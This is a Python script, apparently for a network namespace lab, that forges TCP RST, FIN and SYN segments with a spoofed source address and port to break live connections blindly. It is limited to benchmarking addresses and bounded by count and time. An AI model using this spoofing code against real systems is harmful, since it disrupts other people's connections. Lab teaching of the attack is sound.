@@ -1,0 +1,55 @@
+#!/usr/bin/env python3
+"""Blind attacks on live TCP connections, for the namespace lab: for each client port given,
+COUNT RSTs and COUNT FIN|ACKs at random sequence numbers, then one SYN, all with the client's
+address and port forged as the source, to DST:DPORT. Bounded by COUNT and by SECONDS; it stops
+by itself and prints what it sent. Run it in the lab's spoofer namespace only.
+   spoof-segments.py CLIENT DST DPORT COUNT SECONDS PORT [PORT ...]"""
+import random
+import socket
+import struct
+import sys
+import time
+
+client, dst, dport, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
+ports = [int(p) for p in sys.argv[6:]]
+for address in (client, dst):
+    if not address.startswith("198.18.") and not address.startswith("198.19."):
+        sys.exit("spoof-segments: lab addresses (198.18.0.0/15) only")
+RST, SYN, FIN, ACK = 0x04, 0x02, 0x01, 0x10
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def segment(src, dst_bytes, sport, seq, ack, flags):
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
+    pseudo = struct.pack("!4s4sBBH", src, dst_bytes, 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0,
+                     src, dst_bytes)
+    return ip + tcp
+
+
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+src, dst_bytes = socket.inet_aton(client), socket.inet_aton(dst)
+rnd = random.Random(7)
+sent = {"rst": 0, "fin": 0, "syn": 0}
+end = time.monotonic() + seconds
+for port in ports:
+    for _ in range(count):
+        if time.monotonic() >= end:
+            break
+        s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), rnd.getrandbits(32), RST | ACK), (dst, 0))
+        s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), rnd.getrandbits(32), FIN | ACK), (dst, 0))
+        sent["rst"] += 1
+        sent["fin"] += 1
+    s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), 0, SYN), (dst, 0))
+    sent["syn"] += 1
+print(f"spoofed rst {sent['rst']} fin {sent['fin']} syn {sent['syn']} on {len(ports)} connections")
